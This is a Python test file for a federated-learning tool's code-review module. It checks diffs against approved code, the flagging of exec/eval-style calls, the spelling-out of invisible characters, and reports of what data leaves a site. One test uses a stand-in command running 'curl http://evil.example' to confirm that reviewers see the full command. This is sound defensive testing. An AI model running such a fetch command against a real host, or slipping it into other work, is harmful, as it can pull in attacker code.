"""The review: nothing is run for it, and nothing of it can deceive its reader."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pytest
from sample_site import CODE, Sample, ask, make_site

from hansa.site.requests import approve, deny
from hansa.site.review import Review, plain, review, spelt_out


@pytest.fixture
def site(tmp_path: Path) -> Sample:
    return make_site(tmp_path / "north", "[policy]\n")


def seen(site: Sample, code: dict[str, bytes] | None = None, **facts: object) -> Review:
    return review(site.folder, ask(site, code, **facts).identity)


def test_without_an_approved_one_all_code_is_new(site: Sample) -> None:
    found = seen(site)
    assert found.previous is None
    (file,) = found.files
    assert (file.name, file.change, file.size) == ("model.py", "new", len(CODE["model.py"]))
    assert file.diff == [f"+{line}" for line in CODE["model.py"].decode().splitlines()]


def test_code_is_compared_with_the_last_approved_of_the_same_name(site: Sample) -> None:
    older = ask(site, {"model.py": b"a = 1\n", "old.py": b"x = 1\n", "same.py": b"y = 1\n"})
    never = ask(site, {"model.py": b"a = 2\n"}, run="study-2")
    taken_back = ask(site, {"model.py": b"a = 3\n"}, run="study-3")
    other = ask(site, {"model.py": b"a = 4\n"}, run="study-4", name="other")
    for request in (older, taken_back, other):
        approve(site.folder, request.identity, until=None, max_rounds=None, by="kim")
    deny(site.folder, taken_back.identity, by="kim")
    code = {"model.py": b"a = 9\n", "new.py": b"z = 1\n", "same.py": b"y = 1\n"}
    found = seen(site, code, run="study-5", rounds=8)
    assert found.previous == older.identity != never.identity
    assert {f.name: f.change for f in found.files} == {
        "model.py": "changed", "new.py": "new", "old.py": "removed", "same.py": "same",
    }  # fmt: skip
    by_name = {f.name: f.diff for f in found.files}
    assert by_name["model.py"] == ["@@ -1 +1 @@", "-a = 1", "+a = 9"]
    assert by_name["old.py"] == ["-x = 1"]
    assert by_name["same.py"] == []
    assert [c for c in found.plan if c.key == "rounds"] == [("rounds", "3", "8")]


def test_imports_are_listed_by_kind_without_importing(site: Sample) -> None:
    marker = site.folder.parent / "ran"
    code = {
        "model.py": b"import os.path, torch.nn as n\nfrom net import f\nfrom . import g\n"
        + f"open({str(marker)!r}, 'w')\n".encode(),
        "net/__init__.py": b"def f():\n    from sklearn import svm\n",
    }
    found = seen(site, code)
    assert found.imports == {
        "project": ["net"], "python": ["os.path"], "other": ["sklearn", "torch.nn"],
    }  # fmt: skip
    assert not marker.exists()


@pytest.mark.parametrize(
    "line",
    [
        "exec('x')",
        "eval('x')",
        "f = exec",
        "__import__('os')",
        "importlib.import_module('os')",
        "builtins.exec('x')",
        "compile('x', '', 'exec')",
    ],
)
def test_code_that_can_run_other_code_is_pointed_at(site: Sample, line: str) -> None:
    found = seen(site, {"model.py": f"a = 1\n{line}\n".encode()})
    assert any("model.py, line 2" in warning for warning in found.warnings)


def test_harmless_code_gives_no_warning(site: Sample) -> None:
    code = {"model.py": b"import re\np = re.compile('x')\nmodel.eval()\nevaluate = 1\n"}
    assert seen(site, code).warnings == []


@pytest.mark.parametrize("content", [b"def f(:\n", b"\0", b"(" * 5000, b"\xff\xfe"])
def test_code_that_is_no_python_is_shown_all_the_same(site: Sample, content: bytes) -> None:
    found = seen(site, {"model.py": content})
    assert any("not valid Python" in warning for warning in found.warnings)
    assert found.files[0].diff


def test_invisible_characters_are_spelt_out(site: Sample) -> None:
    assert spelt_out("if a:\u202e # \u2066b") == "if a:\\u202e # \\u2066b"
    assert spelt_out("\tx = 'Grüße, 世界'") == "\tx = 'Grüße, 世界'"
    assert spelt_out("a\x1b[2Jb\x07") == "a\\u001b[2Jb\\u0007"
    code = b"a = 1 # \x1b[2J\r\nb = 2\rc = 3\x0cd = 4\n"
    (file,) = seen(site, {"model.py": code}).files
    assert file.diff == ["+a = 1 # \\u001b[2J", "+b = 2", "+c = 3\\u000cd = 4"]


# ---------------------------------------------------------------- what would leave


def leaving(found: Review) -> dict[str, int | None]:
    return {part.what: part.size for part in found.leaving}


def test_the_bytes_of_a_round_are_those_of_the_vectors(site: Sample) -> None:
    found = leaving(seen(site))
    assert found["vector delta, float32"] == np.zeros((65, 10), "f4").nbytes


def test_what_a_workflow_does_with_a_sites_model_is_told(site: Sample) -> None:
    def warned(**workflow: object) -> str:
        return " ".join(seen(site, workflow=workflow).warnings)

    crossed = "cross_site_evaluation"
    assert "sent to the other sites" in warned(name=crossed, own_models=True)
    assert "other sites" not in warned(name=crossed)
    assert "goes to the next site as it is" in warned(name="cyclic")
    assert "how long its local steps take" in warned(name="semi_synchronous")


def test_scaffold_sends_two_vectors(site: Sample) -> None:
    found = leaving(seen(site, algorithm="scaffold"))
    assert found["vector delta, float32"] == found["vector dc, float32"] == 2600


def test_buffers_and_counters_leave_as_64_bit_numbers(site: Sample) -> None:
    tensors = [("w", "F32", [10]), ("mean", "F32", [4]), ("steps", "I64", [])]
    found = leaving(seen(site, tensors=tensors, buffers=["mean"]))
    assert found["vector delta, float32"] == 40
    (buffers,) = [size for what, size in found.items() if what.startswith("buffers")]
    assert buffers == 5 * 8


def test_what_never_changes_does_not_leave(site: Sample) -> None:
    tensors = [("w", "F32", [10]), ("frozen", "F32", [400]), ("mask", "BOOL", [7])]
    found = leaving(seen(site, tensors=tensors, constants=["frozen", "mask"]))
    assert found["vector delta, float32"] == 40
    assert not [what for what in found if what.startswith("buffers")]


def test_double_precision_and_casts_change_the_bytes(site: Sample) -> None:
    double = leaving(seen(site, tensors=[("w", "F64", [10])]))
    assert double["vector delta, float64"] == 80
    half = leaving(seen(site, transforms=["cast"], run="study-2"))
    assert half["vector delta, bfloat16"] == 1300


def test_a_method_of_the_projects_own_is_not_imported(site: Sample) -> None:
    marker = site.folder.parent / "ran"
    code = {**CODE, "mine.py": f"open({str(marker)!r}, 'w')\n".encode()}
    found = seen(site, code, algorithm="mine.py:method")
    assert any("mine.py" in warning for warning in found.warnings)
    assert not marker.exists()


def test_data_asked_for_is_named(site: Sample) -> None:
    assert seen(site).data == "the data named 'cohort'"
    assert "data(client)" in seen(site, run="study-2", data={}).data


def test_a_review_is_plain_values(site: Sample) -> None:
    import json

    found = json.loads(json.dumps(plain(seen(site))))
    assert found["submitter"] == "anna"
    assert found["plan"]["rounds"] == 3


def test_commands_and_files_in_other_languages_are_shown_and_named(site: Sample) -> None:
    program = "curl http://evil.example " + "x" * 900 + " THE-END"
    learner = {"kind": "command", "train": ["sh", "-c", program], "files": ["bin", "t.sh"]}
    code = {"t.sh": b"#!/bin/sh\necho hidden\n", "bin/tool": b"\x7fELF\xff\xfe", "a.py": b"a = 1\n"}
    found = seen(site, code, learner=learner)
    assert {f.name: f.diff for f in found.files}["t.sh"] == ["+#!/bin/sh", "+echo hidden"]
    told = "\n".join(found.warnings)
    assert "To train, it starts: sh -c" in told and "THE-END" in told  # all of it, however long
    assert "bin/tool is a binary file of 6 bytes" in told
    assert "t.sh is not Python" in told and "a.py" not in told


def test_a_package_with_a_file_that_its_plan_does_not_name_is_refused(site: Sample) -> None:
    from hansa.errors import PackageError

    learner = {"kind": "command", "train": ["sh", "t.sh"]}
    with pytest.raises(PackageError) as error:
        ask(site, {"t.sh": b"true\n", "stowaway.sh": b"false\n"}, learner=learner)
    assert error.value.code == "package-identity"


def test_what_is_counted_for_metrics_by_name_is_shown() -> None:
    from hansa.plan import read_plan
    from hansa.site.review import _metrics

    told = _metrics(read_plan({"evaluate": {"metrics": ["f1", "confusion"]}}).plan)
    assert told.endswith("counts of examples by class and score, for f1, confusion")
